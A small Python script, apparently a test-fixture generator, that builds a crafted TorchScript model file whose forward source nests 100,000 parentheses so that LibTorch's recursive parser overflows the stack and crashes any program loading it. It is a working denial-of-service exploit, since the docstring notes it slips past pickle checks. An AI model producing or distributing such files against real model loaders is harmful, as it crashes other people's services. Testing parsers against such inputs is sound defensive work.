"""Writes a TorchScript file whose code nests 100,000 parentheses in one expression: a real
torch.jit.save archive, its forward's source rewritten, which LibTorch's parser reads by
recursion past any thread's stack (a crafted file's way to crash whatever loads it; the pickle
checks do not read code). Usage: make_deep_code_model.py OUT.pt"""
import io
import sys
import zipfile

import torch


class Plain(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = torch.nn.Linear(4, 2)

    def forward(self, x):
        return self.linear(x)


if __name__ == "__main__":
    saved = io.BytesIO()
    torch.jit.save(torch.jit.script(Plain()), saved)
    saved.seek(0)
    depth = 100000
    with zipfile.ZipFile(saved) as source, zipfile.ZipFile(sys.argv[1], "w") as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith(".py") and b"return (linear).forward(x, )" in data:
                data = data.replace(b"return (linear).forward(x, )",
                                    b"return " + b"(" * depth + b"(linear).forward(x, )" +
                                    b")" * depth)
                assert b"(" * depth in data, "the forward's source changed: update this script"
            out.writestr(info, data)
